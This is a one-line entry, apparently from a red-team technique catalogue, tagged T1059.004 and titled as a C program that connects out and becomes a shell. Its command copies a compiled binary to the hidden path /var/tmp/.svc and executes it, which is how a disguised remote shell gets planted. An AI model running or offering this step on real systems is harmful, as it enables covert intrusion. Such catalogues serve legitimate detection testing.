# title: A program in C connects, and becomes a shell
# technique: T1059.004
# needs: cc
# short: yes

cp "$BUILT" /var/tmp/.svc && /var/tmp/.svc
